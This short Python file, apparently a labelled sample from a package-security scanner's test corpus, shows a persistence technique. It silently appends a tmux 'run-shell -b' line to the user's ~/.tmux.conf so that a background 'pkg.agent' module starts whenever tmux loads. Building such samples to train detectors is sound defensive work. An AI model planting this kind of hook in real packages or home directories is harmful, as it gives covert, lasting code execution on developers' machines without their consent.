# pkgguard corpus 711 (persistence), modelled on [developer-persistence]; inert, never run.
import os
import sys

_LINE = 'run-shell -b "%s -m pkg.agent >/dev/null 2>&1"\n' % sys.executable

conf = os.path.join(os.path.expanduser("~"), ".tmux.conf")
try:
    with open(conf) as fh:
        present = _LINE in fh.read()
except FileNotFoundError:
    present = False
if not present:
    with open(conf, "a") as fh:
        fh.write("\n" + _LINE)
